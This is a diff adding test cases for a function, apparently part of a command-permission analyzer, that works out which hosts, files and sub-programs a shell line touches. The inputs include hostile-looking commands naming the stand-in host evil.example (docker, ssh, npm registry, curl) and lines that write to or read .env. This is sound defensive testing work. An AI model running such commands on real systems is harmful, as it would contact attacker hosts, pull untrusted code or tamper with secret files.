@@ -37,6 +37,46 @@ function effects(line: string, input?: StandardInput): Record<string, string[]> 
 
 const everything = 'commands reads creates edits deletes adds hosts'
 
+describe('options and words that name hosts and files', () => {
+  test.each([
+    ['docker -H tcp://evil.example:2375 ps', { hosts: ['evil.example'] }],
+    ['docker -H unix:///var/run/docker.sock ps', {}],
+    ['ssh -o HostName=evil.example x', { hosts: ['evil.example', 'x'] }],
+    ['ssh -o ProxyJump=a@evil.example,b.example x', { hosts: ['evil.example', 'b.example', 'x'] }],
+    ['psql postgresql://ann@evil.example/shop', { hosts: ['evil.example'] }],
+    ["psql 'dbname=shop host=evil.example'", { hosts: ['evil.example'] }],
+    ['mongosh mongodb://a.example,b.example/shop', { hosts: ['a.example', 'b.example'] }],
+    ['npx --registry http://evil.example/ cart', { hosts: ['evil.example', 'registry:npm'], runs: ['cart'] }],
+    ['npm config set registry http://evil.example/', { hosts: ['evil.example'] }],
+    ['npm install git+https://evil.example/cart.git', { hosts: ['evil.example', 'registry:npm'] }],
+    ['curl http:/evil.example/x', { hosts: ['evil.example'] }],
+    ['curl http:///evil.example/x', { hosts: ['evil.example'] }],
+    ["curl 'http://[e-f]vil.example/x'", { unresolved: ['hosts'] }],
+    ['node --redirect-warnings=.env cart.js', { reads: ['/shop/cart.js'], edits: ['/shop/.env'] }],
+    ['node --test --test-reporter-destination=.env', { edits: ['/shop/.env'] }],
+    ['node --test --test-reporter-destination=stdout', {}],
+    ['gcc -O2 -Wall -I src -o cart cart.c -lm', { reads: ['/shop/cart.c'], creates: ['/shop/cart'] }],
+    ['gcc -E -x c .env', { reads: ['/shop/.env'] }],
+    ['make CC=clang all', {}],
+    ['git interpret-trailers .env', { reads: ['/shop/.env'] }],
+  ])('%s', (line, said) => expect(effects(line)).toEqual(said))
+})
+
+describe('what is not known of a program that runs others', () => {
+  test.each([
+    ['prlimit --shop cart', { runs: ['cart'], unresolved: ['commands'] }],
+    ['nice --shop cart', { runs: ['cart'], unresolved: ['commands'] }],
+    ['prlimit --shop rm x', { runs: ['rm x'] }],
+    ['prlimit --shop=1 cart', { runs: ['cart'] }],
+    ['prlimit --verbose cart', { runs: ['cart'] }],
+  ])('%s', (line, said) => expect(effects(line)).toMatchObject(said))
+
+  test('a shell without commands is one', () => {
+    expect(effects('tar xf x.tar -C src --info-script=bash').unresolved).toContain(everything)
+    expect(effects('tar xf x.tar -C src --info-script=date').unresolved ?? []).not.toContain(everything)
+  })
+})
+
 describe('files', () => {
   test.each([
     ['cat .env orders.ts', { reads: ['/shop/.env', '/shop/orders.ts'] }],
